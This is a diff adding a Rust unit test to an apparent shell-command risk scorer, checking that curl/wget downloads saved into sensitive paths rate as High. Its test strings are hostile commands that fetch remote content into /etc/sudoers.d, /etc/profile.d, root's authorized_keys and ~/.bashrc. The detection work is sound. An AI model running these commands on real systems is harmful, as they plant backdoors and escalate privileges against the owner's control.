@@ -5915,3 +5915,44 @@ fn target_and_argument_needles_take_signals_off_the_always_tried_lists() {
         true,
     );
 }
+
+/// A download saved to a named file writes it as a redirection would: `curl -o F URL`
+/// scores as `curl URL > F` (session of 2026-12-05 from 08:00 UTC).
+#[test]
+fn download_output_files_are_written_targets() {
+    let e = engine();
+    for (saved, redirected) in [
+        (
+            "wget -O /etc/sudoers.d/x https://x.io/t",
+            "wget -qO- https://x.io/t > /etc/sudoers.d/x",
+        ),
+        (
+            "curl -fsSLo /etc/profile.d/x.sh https://x.io/t",
+            "curl -fsSL https://x.io/t > /etc/profile.d/x.sh",
+        ),
+        (
+            "curl --output=/root/.ssh/authorized_keys https://x.io/k",
+            "curl https://x.io/k > /root/.ssh/authorized_keys",
+        ),
+        (
+            "curl -o \"$HOME/.bashrc\" https://x.io/rc",
+            "curl https://x.io/rc > \"$HOME/.bashrc\"",
+        ),
+        (
+            "curl --output /usr/local/bin/yq https://x.io/yq",
+            "curl https://x.io/yq > /usr/local/bin/yq",
+        ),
+    ] {
+        let (a, b) = (e.score_str(saved), e.score_str(redirected));
+        assert_eq!(a.level, b.level, "{saved} / {redirected}");
+        assert!(a.level >= Level::High, "{saved}");
+    }
+    for cmd in [
+        "curl -s -o /dev/null -w '%{http_code}' https://x.io",
+        "curl -o tool.tgz https://x.io/t",
+        "wget -O /tmp/x.tgz https://x.io/x.tgz",
+        "curl -o - https://x.io/t",
+    ] {
+        assert_eq!(e.score_str(cmd).level, Level::Low, "{cmd}");
+    }
+}
